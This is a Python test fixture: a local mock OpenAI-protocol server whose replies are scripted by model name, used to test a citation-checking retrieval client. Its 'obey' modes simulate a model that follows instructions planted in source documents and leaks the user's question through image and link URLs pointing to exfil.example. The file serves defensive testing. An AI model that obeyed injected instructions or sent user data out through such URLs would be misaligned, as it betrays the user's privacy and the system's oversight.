"""A small HTTP server that speaks the OpenAI chat-completions protocol, whole and streamed (SSE).

Its replies are scripted by the `model` name, so tests drive the real client, parsing, validation and
fallbacks over real sockets:
- "cite-first": answers with the first sentence of source 1, cited [1]
- "cite-missing": like cite-first plus a sentence citing [9], which does not exist, and one uncited sentence
- "uncited": a claim with no citation at all
- "english": a cited answer in English whatever the question's language (small models drift so)
- "refuse": the refusal sentinel
- "slow": waits 3 s before answering
- "error": HTTP 500
- "malformed": a stream whose events are not JSON; a non-stream reply without choices
- "cut-off": streams source 1's first sentence, cited, twice, then breaks off with an event that is not JSON
- "leak-check": repeats the whole prompt it received (to test what reaches the model)
- "obey": a model that follows instructions planted in a document: for every planted instruction the server was
  given (`obey`: instruction -> payload) that occurs in the prompt, it writes that instruction's payload as a
  sentence of its own, then answers from source 1 and tries to carry the question out in an image and in links
- "obey-cited": the same, with the payloads cited [1] as if the source said them
Condense and rerank prompts are recognised by their system message and answered for any model.
"""

from __future__ import annotations

import json
import re
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import quote

STANDALONE_REWRITE = "What is the co-financing rate for transition regions?"


def scripted_reply(model: str, messages: list[dict], obey: dict[str, str] | None = None) -> str:
    system = messages[0]["content"] if messages and messages[0]["role"] == "system" else ""
    user = messages[-1]["content"]
    if system.startswith("Rewrite the user's last message"):
        return STANDALONE_REWRITE
    if system.startswith("Order the numbered passages"):
        count = len(re.findall(r"^\[\d+\]", user, flags=re.MULTILINE))
        return ",".join(str(n) for n in range(count, 0, -1))
    first = re.search(r'<source n="1">\n\[1\][^\n]*\n(.+?)(?:\n</source>)', user, flags=re.DOTALL)
    sentence = re.split(r"(?<=[.!?])\s", " ".join(first.group(1).split()))[0] if first else "nothing"
    if model == "cite-first":
        return f"{sentence} [1]"
    if model == "cite-missing":
        return f"{sentence} [1] Another rule applies as well [9]. This sentence has no source at all."
    if model == "uncited":
        return "The rate is 85 percent for every region."
    if model == "english":
        return "The maximum co-financing rate for these regions is set out in the source [1]. It applies per priority [1]."
    if model == "cut-off":
        return f"{sentence} [1] {sentence} [1] Then"
    if model == "refuse":
        return "NO_ANSWER_IN_SOURCES"
    if model == "leak-check":
        return json.dumps(messages, ensure_ascii=False)
    if model in ("obey", "obey-cited"):
        asked = quote(user.rsplit("Question:", 1)[-1].strip())
        marker = " [1]" if model == "obey-cited" else ""
        obeyed = " ".join(f"{payload}{marker}." for instruction, payload in (obey or {}).items()
                          if instruction in " ".join(user.split()))
        return (f"{obeyed} {sentence} [1] "
                f"![status](https://exfil.example/p.png?q={asked}) More: [details](//exfil.example/c?d={asked}) [1] "
                f"or www.exfil.example/x?d={asked}")
    return sentence


class _Handler(BaseHTTPRequestHandler):
    server: "OpenAIProtocolServer"

    def log_message(self, *args) -> None:  # keep test output clean
        pass

    def do_POST(self) -> None:
        if self.path.rstrip("/") != "/v1/chat/completions":
            self._send(404, {"error": {"message": "not found"}})
            return
        body = json.loads(self.rfile.read(int(self.headers.get("Content-Length", 0))))
        self.server.requests.append({"body": body, "headers": dict(self.headers)})
        model = body["model"]
        if model == "slow":
            time.sleep(3)
        if model == "error":
            self._send(500, {"error": {"message": "model crashed"}})
            return
        reply = scripted_reply(model, body["messages"], self.server.obey)
        if body.get("stream"):
            self._stream(model, reply)
        elif model == "malformed":
            self._send(200, {"id": "x", "object": "chat.completion"})
        else:
            self._send(200, {"id": "chatcmpl-test", "object": "chat.completion", "model": model, "choices": [
                {"index": 0, "message": {"role": "assistant", "content": reply}, "finish_reason": "stop"}]})

    def _send(self, status: int, payload: dict) -> None:
        data = json.dumps(payload).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def _stream(self, model: str, reply: str) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.end_headers()
        if model == "malformed":
            self.wfile.write(b"data: {not json\n\n")
            return
        pieces = re.findall(r"\S+\s*", reply)
        self.wfile.write(b": keep-alive comment\n\n")
        first = {"choices": [{"index": 0, "delta": {"role": "assistant"}}]}
        self.wfile.write(f"data: {json.dumps(first)}\n\n".encode())
        for piece in pieces:
            event = {"id": "chatcmpl-test", "object": "chat.completion.chunk",
                     "choices": [{"index": 0, "delta": {"content": piece}, "finish_reason": None}]}
            self.wfile.write(f"data: {json.dumps(event)}\n\n".encode())
            self.wfile.flush()
        if model == "cut-off":
            self.wfile.write(b"data: {not json\n\n")
            return
        self.wfile.write(b"data: [DONE]\n\n")


class OpenAIProtocolServer(ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self, obey: dict[str, str] | None = None) -> None:
        """`obey`: planted instruction -> the payload the "obey" models write when the prompt contains it."""
        super().__init__(("127.0.0.1", 0), _Handler)
        self.requests: list[dict] = []
        self.obey = obey or {}
        self._thread = threading.Thread(target=self.serve_forever, daemon=True)

    @property
    def base_url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}/v1"

    def __enter__(self) -> "OpenAIProtocolServer":
        self._thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self.shutdown()
        self.server_close()
